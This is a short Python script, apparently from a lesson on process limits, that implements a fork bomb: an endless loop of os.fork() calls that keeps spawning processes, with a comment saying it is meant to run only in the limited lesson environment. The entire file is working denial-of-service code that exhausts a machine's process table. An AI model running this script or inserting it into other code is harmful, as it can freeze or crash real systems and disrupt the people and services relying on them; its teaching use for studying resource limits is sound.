import os
import signal

# A fork bomb: run it only in the lesson, which limits it.
while True:
    try:
        os.fork()
    except BlockingIOError:  # EAGAIN
        try:
            os.wait()
        except ChildProcessError:  # no child
            signal.pause()
